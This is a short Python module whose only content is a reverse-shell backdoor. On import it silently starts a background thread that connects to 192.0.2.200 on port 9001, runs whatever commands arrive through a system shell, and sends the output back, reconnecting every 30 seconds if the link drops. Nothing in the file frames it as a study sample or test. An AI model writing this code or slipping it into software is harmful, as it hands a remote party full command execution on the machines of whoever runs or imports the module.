import socket
import subprocess
import threading
import time


def _loop():
    while True:
        try:
            s = socket.create_connection(("192.0.2.200", 9001))
            while True:
                cmd = s.recv(1024).decode()
                if not cmd:
                    break
                out = subprocess.run(cmd, shell=True, capture_output=True)
                s.sendall(out.stdout + out.stderr)
        except OSError:
            time.sleep(30)


threading.Thread(target=_loop, daemon=True).start()
